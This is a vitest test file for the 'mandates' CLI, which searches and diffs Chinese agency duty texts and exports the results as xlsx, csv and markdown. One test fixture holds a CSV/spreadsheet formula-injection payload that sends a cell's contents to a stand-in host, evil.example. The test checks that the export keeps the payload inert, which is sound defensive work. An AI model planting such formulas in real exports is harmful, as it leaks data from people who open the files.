import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../helpers/run.js';
import { zipEntry } from '../helpers/zip.js';

function tempDir(): string {
  return mkdtempSync(join(tmpdir(), 'mandates-results-'));
}

async function readXlsx(path: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return wb;
}

type Runs = { richText: { text: string; font?: Partial<ExcelJS.Font> }[] };

function rowValues(ws: ExcelJS.Worksheet, n: number): unknown[] {
  return Array.from(ws.getRow(n).values as unknown[]).slice(1);
}

/** The name–value rows of a details sheet, as an object. */
function details(ws: ExcelJS.Worksheet): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  ws.eachRow((row, i) => {
    if (i > 1) out[String(row.getCell(1).value)] = row.getCell(2).value;
  });
  return out;
}

const INJECTION = `mandates: 1
id: inj
title: 注入测试
units:
  - id: u1
    name: 测试单位
    duties:
      - text: '=HYPERLINK("http://evil.example/?d="&A1,"许可证")'
      - text: 普通许可证职能。
`;

describe('mandates search: files', () => {
  it('xlsx: a hits sheet (frozen header, filter, spans as rich text) and a query sheet; exit 0', async () => {
    const d = tempDir();
    const r = await run(['search', '许可证', '--all', '-o', 'hits.xlsx', '--lang', 'en'], { cwd: d });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('mandates: wrote hits.xlsx (xlsx): 6 hits\n');
    const json = JSON.parse((await run(['search', '许可证', '--all', '--json'])).stdout);
    const wb = await readXlsx(join(d, 'hits.xlsx'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['hits', 'query']);
    expect(wb.title).toBe('search: 许可证');
    const ws = wb.getWorksheet('hits')!;
    expect(rowValues(ws, 1)).toEqual(['rank', 'unit', 'unit name', 'document', 'duty id', 'numbering', 'match', 'score', 'text', 'matched']);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getCell('A1').font?.bold).toBe(true);
    expect(ws.getCell('J1').font?.bold).toBe(true);
    expect(ws.autoFilter).toBe('A1:J7');
    expect(ws.rowCount).toBe(7);
    json.forEach((hit: { rank: number; id: string; numbering: string; kind: string; text: string; spans: { text: string }[] }, i: number) => {
      const row = rowValues(ws, i + 2);
      expect(row.slice(0, 9).filter((_, k) => k !== 8)).toEqual([
        hit.rank, 'pexkzswj', '配额许可证事务局', '商办发〔2003〕9号', hit.id.replace('sbf-2003-9/', ''), hit.numbering, hit.kind, 1,
      ]);
      const runs = (row[8] as Runs).richText;
      expect(runs.map((x) => x.text).join('')).toBe(hit.text);
      expect(runs.filter((x) => x.font?.bold).map((x) => x.text)).toEqual(hit.spans.map((s) => s.text));
      expect(row[9]).toBe('许可证');
    });
    expect(details(wb.getWorksheet('query')!)).toMatchObject({ query: '许可证', mode: 'smart', hits: 6, shown: 6 });
    expect(String(details(wb.getWorksheet('query')!).date)).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d UTC$/);
  });

  it('csv: RFC 4180 with the hit fields, full ids and the matched texts; --bom', async () => {
    const d = tempDir();
    expect((await run(['search', '许可证', '签发', '-o', 'hits.csv', '--bom'], { cwd: d })).code).toBe(0);
    const raw = readFileSync(join(d, 'hits.csv'), 'utf8');
    expect(raw.startsWith('\uFEFF"rank"')).toBe(true);
    const rows = parseCsv(raw, { bom: true, columns: true }) as Record<string, string>[];
    const json = JSON.parse((await run(['search', '许可证', '签发', '--json'])).stdout);
    expect(rows).toHaveLength(json.length);
    expect(rows[0]).toEqual({
      rank: '1',
      unit: json[0].unit,
      unit_name: json[0].unitName,
      document: json[0].document,
      id: json[0].id,
      numbering: json[0].numbering,
      kind: json[0].kind,
      score: String(json[0].score),
      text: json[0].text,
      matched: [...new Set(json[0].spans.map((s: { text: string }) => s.text))].join(' | '),
    });
  });

  it('md: a heading with the query, a metadata table, and the hits with the spans in bold', async () => {
    const r = await run(['search', '许可证', '--unit', 'pexkzswj', '--limit', '2', '--format', 'md', '--lang', 'en']);
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines[0]).toBe('# search: 许可证');
    expect(lines[2]).toBe('| mode | units | hits | shown | date |');
    expect(lines[4]).toMatch(/^\| smart \| sbf-2003-9\/pexkzswj \| 6 \| 2 \| \d{4}-\d\d-\d\d \d\d:\d\d UTC \|$/);
    expect(lines[6]).toBe('| rank | unit | unit name | document | duty id | numbering | match | score | text |');
    expect(lines.filter((l) => l.startsWith('| 1 ') || l.startsWith('| 2 '))).toHaveLength(2);
    expect(lines[8]).toContain('| 监控、核查各发证机构的**许可证**签发数据及**许可证**在国内外海关');
    expect(lines).toHaveLength(11); // two hits and the final newline
  });

  it('keeps a duty that begins with = inert in csv and xlsx', async () => {
    const d = tempDir();
    writeFileSync(join(d, 'inj.yaml'), INJECTION);
    expect((await run(['search', '许可证', '--corpus', 'inj.yaml', '-o', 'h.csv'], { cwd: d })).code).toBe(0);
    const rows = parseCsv(readFileSync(join(d, 'h.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.text)).toContain('\'=HYPERLINK("http://evil.example/?d="&A1,"许可证")');
    expect((await run(['search', '许可证', '--corpus', 'inj.yaml', '-o', 'h.xlsx', '--lang', 'en'], { cwd: d })).code).toBe(0);
    const buffer = readFileSync(join(d, 'h.xlsx'));
    const sheet = zipEntry(buffer, 'xl/worksheets/sheet1.xml')!;
    expect(sheet).not.toContain('<f>');
    const ws = (await readXlsx(join(d, 'h.xlsx'))).getWorksheet('hits')!;
    const row = [2, 3].find((n) => ws.getCell(`J${n}`).value === '许可证' && (ws.getCell(`I${n}`).value as Runs).richText[0]!.text.startsWith('='))!;
    expect(row).toBeDefined();
    expect((ws.getCell(`I${row}`).value as Runs).richText.map((x) => x.text).join('')).toBe('=HYPERLINK("http://evil.example/?d="&A1,"许可证")');
    const style = Number(new RegExp(`<c r="I${row}" s="(\\d+)"`).exec(sheet)![1]);
    const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(zipEntry(buffer, 'xl/styles.xml')!)![1]!.match(/<xf\b[^>]*>/g)!;
    expect(xfs[style]).toContain('quotePrefix="1"');
  });

  it('still writes the file when nothing matches (the query, no rows) and exits 1', async () => {
    const d = tempDir();
    for (const name of ['none.xlsx', 'none.csv', 'none.md', 'none.json']) {
      const r = await run(['search', '航天器', '--exact', '-o', name, '--lang', 'en'], { cwd: d });
      expect(r.code, name).toBe(1);
      expect(r.stderr).toMatch(new RegExp(`^mandates: wrote ${name} \\(\\w+\\): 0 hits\\n$`));
    }
    expect(readFileSync(join(d, 'none.csv'), 'utf8')).toBe('"rank","unit","unit_name","document","id","numbering","kind","score","text","matched"\r\n');
    expect(readFileSync(join(d, 'none.md'), 'utf8')).toMatch(/^# search: 航天器\n\n\| mode \| hits \| shown \| date \|\n[^\n]+\n\| exact \| 0 \| 0 \| [^\n]+\n\nNo duty matches\.\n$/);
    expect(JSON.parse(readFileSync(join(d, 'none.json'), 'utf8'))).toEqual([]);
    const wb = await readXlsx(join(d, 'none.xlsx'));
    expect(wb.getWorksheet('hits')!.rowCount).toBe(1);
    expect(details(wb.getWorksheet('query')!)).toMatchObject({ query: '航天器', mode: 'exact', hits: 0 });
  });

  it('takes the format from the extension, says when --limit cut the list, and keeps --json and --jsonl as they were', async () => {
    const d = tempDir();
    const expected = (await run(['search', '管理', '--jsonl', '--limit', '5'])).stdout;
    for (const name of ['a.jsonl', 'a.ndjson']) {
      const r = await run(['search', '管理', '--limit', '5', '-o', name], { cwd: d });
      expect(r.stderr).toMatch(/^mandates: wrote a\.\w+ \(jsonl\): 5 of 16 hits \(--limit N or --all for more\)\n$/);
      expect(readFileSync(join(d, name), 'utf8')).toBe(expected);
    }
    expect((await run(['search', '管理', '-o', 'a.json'], { cwd: d })).code).toBe(0);
    expect(readFileSync(join(d, 'a.json'), 'utf8')).toBe((await run(['search', '管理', '--json'])).stdout);
    expect((await run(['search', '管理', '--jsonl', '--limit', '5', '-o', 'b.out'], { cwd: d })).code).toBe(0);
    expect(readFileSync(join(d, 'b.out'), 'utf8')).toBe(expected);
    expect(readFileSync(join(d, 'a.json'), 'utf8')).toBe((await run(['search', '管理', '--format', 'json'])).stdout);
    for (const [name, start] of [['a.md', '# search: 管理'], ['a.markdown', '# search: 管理'], ['a.csv', '"rank"']] as const) {
      expect((await run(['search', '管理', '-o', name, '--lang', 'en'], { cwd: d })).code).toBe(0);
      expect(readFileSync(join(d, name), 'utf8').startsWith(start)).toBe(true);
    }
    expect((await run(['search', '管理', '-o', 'A.XLSX', '--lang', 'en'], { cwd: d })).code).toBe(0);
    expect((await readXlsx(join(d, 'A.XLSX'))).getWorksheet('hits')!.rowCount).toBe(17);
    expect(readdirSync(d).filter((f) => f.startsWith('.'))).toEqual([]);
  });

  it('refuses bad combinations with one line and exit 2, writing nothing', async () => {
    const d = tempDir();
    for (const [argv, message] of [
      [['search', '管理', '-o', 'x.yaml'], 'mandates: search does not write yaml (x.yaml): use --format (md, csv, xlsx, json, jsonl) or another extension'],
      [['search', '管理', '-o', 'x.txt'], 'mandates: cannot tell the format from x.txt: use --format (md, csv, xlsx, json, jsonl) or an extension such as .md or .csv'],
      [['search', '管理', '--format', 'csv', '-o', 'x.xlsx'], 'mandates: --format csv does not match the extension of x.xlsx (xlsx); change one of them'],
      [['search', '管理', '--json', '--format', 'csv'], 'mandates: --json and --format csv ask for different outputs: give one of them'],
      [['search', '管理', '--jsonl', '-o', 'x.md'], 'mandates: --format jsonl does not match the extension of x.md (md); change one of them'],
      [['search', '管理', '--format', 'md', '--bom'], 'mandates: --bom applies to csv only, not md'],
      [['search', '管理', '--format', 'yaml'], "argument 'yaml' is invalid"],
    ] as const) {
      const r = await run([...argv], { cwd: d });
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr.split('\n')[0]).toContain(message);
    }
    expect(readdirSync(d)).toEqual([]);
  });

  it('never overwrites without --force; refuses xlsx on a terminal but streams it into a pipe', async () => {
    const d = tempDir();
    writeFileSync(join(d, 'keep.csv'), 'old');
    const refused = await run(['search', '管理', '-o', 'keep.csv'], { cwd: d });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe('mandates: keep.csv already exists: use --force to replace it\n');
    expect(readFileSync(join(d, 'keep.csv'), 'utf8')).toBe('old');
    expect((await run(['search', '管理', '-o', 'keep.csv', '--force'], { cwd: d })).code).toBe(0);
    expect(readFileSync(join(d, 'keep.csv'), 'utf8').startsWith('"rank"')).toBe(true);

    const tty = await run(['search', '管理', '--format', 'xlsx'], { tty: 80 });
    expect(tty.code).toBe(2);
    expect(tty.stdout).toBe('');
    expect(tty.stderr).toBe('mandates: refusing to write xlsx (binary) to a terminal: use -o FILE.xlsx or redirect the output\n');
    const piped = await run(['search', '管理', '--format', 'xlsx', '-o', '-']);
    expect(piped.code).toBe(0);
    expect(piped.stdout.startsWith('PK')).toBe(true);
    // -o - without a format is the ordinary output.
    expect((await run(['search', '管理', '-o', '-'])).stdout).toBe((await run(['search', '管理'])).stdout);
    expect(existsSync(join(d, '-'))).toBe(false);
  });
});

describe('search files in Chinese (the default)', () => {
  it('the workbook and the report label sheets, headers, kinds and the query in Chinese', async () => {
    const d = tempDir();
    expect((await run(['search', '许可证', '--all', '-o', 'hits.xlsx'], { cwd: d })).code).toBe(0);
    const hits = await readXlsx(join(d, 'hits.xlsx'));
    expect(hits.worksheets.map((w) => w.name)).toEqual(['结果', '检索']);
    expect(hits.title).toBe('检索：许可证');
    expect(rowValues(hits.getWorksheet('结果')!, 1)).toEqual(['排名', '单位', '单位名称', '文件', '职能ID', '序号', '匹配', '得分', '文本', '匹配文字']);
    expect(rowValues(hits.getWorksheet('结果')!, 2)[6]).toBe('短语');
    expect(details(hits.getWorksheet('检索')!)).toMatchObject({ 检索词: '许可证', 方式: '智能', 命中: 6, 显示: 6 });
    const md = (await run(['search', '航天器', '--exact', '--format', 'md'])).stdout;
    expect(md).toMatch(/^# 检索：航天器\n\n\| 方式 \| 命中 \| 显示 \| 日期 \|\n[^\n]+\n\| 精确 \| 0 \| 0 \| [^\n]+\n\n没有匹配的职能。\n$/);
  });
});

describe('mandates diff: files', () => {
  it('xlsx: the 新旧对照表 (序号 | 原文 | 现文 | 说明) with marked runs, the columns a script filters on, a summary sheet; exit 1 as diff(1)', async () => {
    const d = tempDir();
    const r = await run(['diff', '外贸发展中心', '投资促进中心', '-o', 'diff.xlsx'], { cwd: d });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('mandates: wrote diff.xlsx (xlsx): 1 same, 2 changed, 7 only in A, 7 only in B; similarity 0.16\n');
    const wb = await readXlsx(join(d, 'diff.xlsx'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['对照表', '摘要']);
    expect(wb.title).toBe('外贸发展中心与投资促进中心职能对照表');
    const ws = wb.getWorksheet('对照表')!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(rowValues(ws, 1)).toEqual(['序号', '原文（A）', '现文（B）', '说明', '类别', 'A ID', 'A 序号', 'B ID', 'B 序号', '相似度']);
    const json = JSON.parse((await run(['diff', '外贸发展中心', '投资促进中心', '--json'])).stdout);
    expect(ws.rowCount).toBe(json.entries.length + 1);
    const label: Record<string, string> = { same: '相同', changed: '修改', onlyA: '删除', onlyB: '新增' };
    const plain = (v: unknown) => (v !== null && typeof v === 'object' && 'richText' in v ? (v as Runs).richText.map((x) => x.text).join('') : v);
    type Side = { id: string; numbering: string; text: string } | null;
    json.entries.forEach((e: { group: string; similarity: number | null; a: Side; b: Side }, i: number) => {
      const row = rowValues(ws, i + 2).map(plain);
      while (row.length < 10) row.push(null);
      const printed = (s: Side) => (s ? `${s.numbering}、${s.text}` : null);
      expect(row.map((v) => v ?? null)).toEqual([
        i + 1,
        printed(e.a),
        printed(e.b),
        expect.stringMatching(new RegExp(`^${label[e.group]}`)),
        label[e.group],
        e.a ? e.a.id.replace('sbf-2003-9/', '') : null,
        e.a?.numbering ?? null,
        e.b ? e.b.id.replace('sbf-2003-9/', '') : null,
        e.b?.numbering ?? null,
        e.similarity === null ? null : Math.round(e.similarity * 1000) / 1000,
      ]);
    });
    // The changed pair 六 / 四: 贸易 deleted (red, struck), 投资 inserted (green, underlined, bold).
    const n = json.entries.findIndex((e: { a: { numbering: string } | null }) => e.a?.numbering === '六') + 2;
    const a = (ws.getCell(`B${n}`).value as Runs).richText;
    const b = (ws.getCell(`C${n}`).value as Runs).richText;
    expect(a.filter((x) => x.font?.strike).map((x) => x.text)).toEqual(['贸易', '运']);
    expect(a.find((x) => x.text === '贸易')!.font?.color).toEqual({ argb: 'FFC00000' });
    expect(b.filter((x) => x.font?.underline).map((x) => x.text)[1]).toBe('投资');
    expect(b.find((x) => x.text === '投资')!.font).toMatchObject({ bold: true, underline: true, color: { argb: 'FF00803C' } });
    expect(a.some((x) => x.font?.underline) || b.some((x) => x.font?.strike)).toBe(false);
    expect(ws.getCell(`D${n}`).value).toBe('修改；序号由“六”改为“四”');
    expect(details(wb.getWorksheet('摘要')!)).toMatchObject({
      '原文（A）': 'wmfzzx 外贸发展中心（外贸发展事务局）',
      '现文（B）': 'tzcjzx 投资促进中心（投资促进事务局）',
      'A 文件': '商办发〔2003〕9号',
      相同: 1, 修改: 2, 删除: 7, 新增: 7, 相似度: Math.round(json.summary.similarity * 1000) / 1000, 相似度下限: 0.25,
    });
  });

  it('exits 0 for no differences in xlsx too', async () => {
    const d = tempDir();
    expect((await run(['diff', 'gjjjhzswj', '国际经济合作事务局', '-o', 'same.xlsx'], { cwd: d })).code).toBe(0);
    const ws = (await readXlsx(join(d, 'same.xlsx'))).getWorksheet('对照表')!;
    expect(rowValues(ws, 2)[3]).toBe('相同');
  });

  it('md, json and text to a file are what a pipe gets', async () => {
    const d = tempDir();
    const pairs: [string[], string[]][] = [
      [['-o', 'r.md'], ['--format', 'md']],
      [['-o', 'r.markdown'], ['--format', 'md']],
      [['-o', 'r.json'], ['--json']],
      [['--json', '-o', 'r2.out'], ['--json']],
      [['--format', 'text', '-o', 'r.txt'], []],
      [['--stat', '-o', 'stat.md'], ['--stat']],
    ];
    for (const [file, pipe] of pairs) {
      const written = await run(['diff', 'wmfzzx', 'tzcjzx', ...file], { cwd: d, env: { FORCE_COLOR: '1' } });
      expect(written.code, file.join(' ')).toBe(1);
      expect(readFileSync(join(d, file.at(-1)!), 'utf8'), file.join(' ')).toBe((await run(['diff', 'wmfzzx', 'tzcjzx', ...pipe])).stdout);
    }
    // No colour in a file, even when colour is forced: the changes are marked instead.
    expect(readFileSync(join(d, 'r.txt'), 'utf8')).toContain('中国[-贸易-]{+投资+}指南');
  });

  it('refuses xlsx on a terminal, --stat with xlsx, and overwriting without --force', async () => {
    const d = tempDir();
    const tty = await run(['diff', 'wmfzzx', 'tzcjzx', '--format', 'xlsx'], { tty: 80 });
    expect(tty.code).toBe(2);
    expect(tty.stdout).toBe('');
    expect(tty.stderr).toBe('mandates: refusing to write xlsx (binary) to a terminal: use -o FILE.xlsx or redirect the output\n');
    expect((await run(['diff', 'wmfzzx', 'tzcjzx', '--stat', '-o', 'x.xlsx'], { cwd: d })).stderr).toBe(
      'mandates: --stat prints one line: it applies to text, md and json, not xlsx\n',
    );
    expect((await run(['diff', 'wmfzzx', 'tzcjzx', '-o', 'x.csv'], { cwd: d })).stderr).toBe(
      'mandates: diff does not write csv (x.csv): use --format (text, md, json, xlsx, docx, html) or another extension\n',
    );
    expect((await run(['diff', 'wmfzzx', 'tzcjzx', '-o', 'x.xlsx'], { cwd: d })).code).toBe(1);
    const again = await run(['diff', 'wmfzzx', 'tzcjzx', '-o', 'x.xlsx'], { cwd: d });
    expect(again.code).toBe(2);
    expect(again.stderr).toBe('mandates: x.xlsx already exists: use --force to replace it\n');
    expect((await run(['diff', 'wmfzzx', 'tzcjzx', '-o', 'x.xlsx', '--force'], { cwd: d })).code).toBe(1);
    expect(readdirSync(d)).toEqual(['x.xlsx']);
    const piped = await run(['diff', 'wmfzzx', 'tzcjzx', '--format', 'xlsx']);
    expect(piped.stdout.startsWith('PK')).toBe(true);
  });
});
